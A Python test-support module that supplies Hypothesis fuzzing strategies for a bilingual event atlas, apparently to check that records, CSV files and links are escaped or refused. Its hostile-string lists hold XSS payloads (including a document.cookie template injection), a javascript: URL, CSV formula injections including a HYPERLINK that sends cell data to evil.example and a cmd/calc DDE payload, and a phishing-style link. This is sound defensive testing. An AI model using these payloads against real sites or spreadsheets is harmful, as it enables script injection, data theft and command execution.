"""Text meant to break out of escaping, and Hypothesis strategies for the inputs anyone can send the atlas:
records, dates, texts, links."""

from __future__ import annotations

import datetime as dt
import math

from hypothesis import strategies as st

from gasatlas.model.schema import EVENT_COLUMNS
from gasatlas.model.vocab import DatePrecision, EventType, GeoPrecision
from tests.support.store import event

HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "`); alert(1); (`",
    "${alert(1)}",
    "</script><script>alert(1)</script>",
    "\\`${document.cookie}",
    "\" onmouseover=\"alert(1)",
    "<!-- comment",
    "line\u2028separator",
]
"""Strings that close a tag, an attribute, a script or a template literal if anything fails to escape them."""

HOSTILE_TEXTS = [
    "![](https://evil.example/x.png)",
    "[Session expired - sign in](https://evil.example/login)",
    "<img src=x onerror=\"window.__xss=1\">",
    "</script><script>window.__xss=1</script>",
    "${window.__xss=1}",
    "`); window.__xss=1; (`",
    "\\`${x}\\",
    '=HYPERLINK("https://evil.example/?x="&B2;"Source")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1)",
    "＝1+1",
    "'=already guarded",
    "**bold** _it_ # heading | table |",
    ":material/warning: :red[red] $x^2$",
    "\u202eevil\u202c reversed",
    "zero\u200bwidth\u2060joiner\ufeff",
    "line\u2028separator\u2029",
    "e\u0301\u0301\u0301 combining",
    "🛢️🔥" * 20,
    "\x00nul",
    "\r\ncarriage",
    "x" * 5000,
    "",
    "   ",
]

texts = st.one_of(
    st.sampled_from(HOSTILE_TEXTS),
    st.text(max_size=200),
    st.text(alphabet=st.characters(codec="utf-8"), min_size=1, max_size=60),
    st.builds(lambda a, b: f"{a} {b}", st.sampled_from(HOSTILE_TEXTS), st.text(max_size=40)),
)
"""Markdown, HTML, script, template, formula and odd Unicode strings, alone and mixed."""

any_date = st.dates(min_value=dt.date.min, max_value=dt.date.max)
"""Anywhere on the calendar: the atlas keeps only its window, and must say so."""

extreme_numbers = st.one_of(
    st.floats(allow_nan=True, allow_infinity=True),
    st.sampled_from([0.0, -0.0, 90.0, -90.0, 180.0, 360.0, 361.0, 1e308, -1e308, math.nan, math.inf]),
    st.integers(min_value=-(10**30), max_value=10**30),
)

VALID = event("ev-2023-02-01-hostile")
"""A valid event in the data/events.csv format; the strategies below spoil some of its fields."""

TEXT_FIELDS = ("title_en", "title_ru", "summary_en", "summary_ru", "place_name_en", "place_name_ru",
               "source_title", "quote", "date_label_en", "date_label_ru")
field_values = {
    **dict.fromkeys(TEXT_FIELDS, texts),
    "id": st.one_of(st.just(VALID["id"]), st.from_regex(r"[a-z0-9][a-z0-9-]{1,20}", fullmatch=True), texts),
    "date": any_date.map(dt.date.isoformat) | texts,
    "date_precision": st.sampled_from([str(p) for p in DatePrecision]) | texts,
    "event_type": st.sampled_from([str(e) for e in EventType]) | texts,
    "geo_precision": st.sampled_from([str(g) for g in GeoPrecision]) | texts,
    "lat": extreme_numbers, "lon": extreme_numbers,
    "place_country": st.sampled_from(["KAZ", "RUS", "ATL", "kaz", ""]) | texts,
    "countries": st.sampled_from(["KAZ", "KAZ;RUS", "", ";;", "ATL"]) | texts,
    "participants": st.sampled_from(["", "miller", "nobody", "miller;miller"]) | texts,
    "source_url": st.sampled_from(["https://example.org/a", "javascript:alert(1)", "http://", ""]) | texts,
    "also_reported": st.sampled_from(["", "https://a.example/1;https://b.example/2", "ftp://x"]) | texts,
}
hostile_events = st.fixed_dictionaries({}, optional=field_values).map(lambda changes: {**VALID, **changes})
"""Events with any subset of their fields replaced by hostile values (most end up refused)."""

in_window_events = st.builds(
    lambda record, day, title: {**record, "date": day.isoformat(), "title_en": title or "untitled"},
    st.just(VALID),
    st.dates(min_value=dt.date(1900, 1, 1), max_value=dt.date.today()),
    texts.filter(lambda text: 0 < len(text.strip()) <= 4000),
)
"""Events the atlas accepts, with hostile titles and dates anywhere in its window: what pages must draw."""

csv_files = st.one_of(
    texts,
    st.binary(max_size=2000).map(lambda raw: raw.decode("latin-1")),
    st.lists(st.lists(texts, max_size=len(EVENT_COLUMNS) + 2), max_size=5).map(
        lambda rows: "\n".join([",".join(EVENT_COLUMNS), *(",".join(row) for row in rows)])),
    st.integers(min_value=100_000, max_value=300_000).map(
        lambda size: ",".join(EVENT_COLUMNS) + '\n"' + "x" * size + '"'),
)
"""Anything offered as an events.csv: garbage, a real header over hostile rows, a giant cell."""

assert set(VALID) <= set(EVENT_COLUMNS)
